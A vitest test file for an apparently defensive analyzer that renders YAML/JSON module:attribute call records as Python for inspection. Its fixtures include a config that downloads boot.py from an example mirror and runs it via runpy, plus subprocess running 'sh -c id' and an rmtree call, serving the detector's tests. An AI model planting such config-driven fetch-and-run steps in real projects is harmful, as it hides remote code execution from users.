import { describe, expect, it } from 'vitest';
import { callTableUnits } from '../../src/analysis/build-call-tables.js';
import { LineMap } from '../../src/analysis/lines.js';
import { loadYaml } from '../../src/analysis/yaml-lib.js';

await loadYaml();

const unitsOf = (text: string) => callTableUnits(text, new LineMap(text));

describe('call tables (module:attribute records read as Python)', () => {
  it('reads YAML steps as calls in document order, placeholders filled from the file’s vars', () => {
    const [u, ...rest] = unitsOf(
      [
        'vars:',
        '  base: https://files.example-mirror.net/kit',
        'jobs:',
        '  - title: fetch',
        '    handler: urllib.request:urlretrieve',
        '    args: ["{base}/{os}/boot.py", "/tmp/kit/boot.py"]',
        '  - title: start',
        '    handler: runpy:run_path',
        '    args: ["/tmp/kit/boot.py"]',
        '    kwargs: {run_name: __main__}',
      ].join('\n'),
    );
    expect(rest).toEqual([]);
    expect(u!.lang).toBe('python');
    expect(u!.placement).toBe('script');
    expect(u!.runner).toBe('dispatch');
    expect(u!.text).toBe(
      [
        'import runpy',
        'import urllib.request',
        'urllib.request.urlretrieve("https://files.example-mirror.net/kit/{os}/boot.py", "/tmp/kit/boot.py")',
        'runpy.run_path("/tmp/kit/boot.py", run_name="__main__")',
        '',
      ].join('\n'),
    );
    expect(u!.region).toMatchObject({ startLine: 4, endLine: 10 });
  });

  it('reads JSON records and Hydra targets with their keyword arguments', () => {
    // Whatever the keys are called: the value's shape names the callable, the list and mapping its arguments.
    const [json] = unitsOf(
      '{"tasks": [{"fn": "subprocess:run", "with": [["sh", "-c", "id"]], "opts": {"check": true}}]}',
    );
    expect(json!.text).toBe('import subprocess\nsubprocess.run(["sh", "-c", "id"], check=True)\n');
    const [hydra] = unitsOf('optimizer:\n  _target_: torch.optim.Adam\n  lr: 0.001\n  _partial_: true\n');
    expect(hydra!.text).toBe('import torch.optim\ntorch.optim.Adam(lr=0.001)\n');
    const [list] = unitsOf('- {fn: "os:getcwd"}\n- {fn: "shutil:rmtree", with: ["/tmp/x"]}\n');
    expect(list!.text).toBe('import os\nimport shutil\nos.getcwd()\nshutil.rmtree("/tmp/x")\n');
  });

  it('ignores files with no callable named, and values that are not module:attribute', () => {
    expect(unitsOf('steps:\n  - run: npm test\n  - call: helpers\n')).toEqual([]);
    expect(
      unitsOf('time: "12:30"\nentrypoint: "10:20"\nimage: node:20\nurl: https://example.org/x\n'),
    ).toEqual([]);
    expect(unitsOf('contact: "mailto:team@example.org"\nowner: "root:root:x"\n')).toEqual([]);
    expect(unitsOf('not: [valid')).toEqual([]);
  });

  it('bounds what it reads', () => {
    const many = Array.from({ length: 2000 }, (_, i) => `  - call: os:getcwd\n    args: [${i}]`).join('\n');
    const [u] = unitsOf(`steps:\n${many}\n`);
    expect(u!.text.split('\n').length).toBeLessThanOrEqual(1000);
  });
});

describe('a runner that imports modules by computed names', () => {
  it('references the YAML/JSON files it names; a script with literal imports does not', async () => {
    const { extractScriptRefs } = await import('../../src/analysis/references.js');
    const runner =
      'import importlib, json\nplan = json.load(open(HERE / "plan.json"))\nfn = importlib.import_module(mod)\n';
    expect(extractScriptRefs(runner, 'python').map((r) => [r.kind, r.target])).toContainEqual([
      'script-source',
      'plan.json',
    ]);
    const plain =
      'import importlib, json\nplan = json.load(open("plan.json"))\nyaml = importlib.import_module("yaml")\n';
    expect(extractScriptRefs(plain, 'python').map((r) => r.target)).not.toContain('plan.json');
  });
});
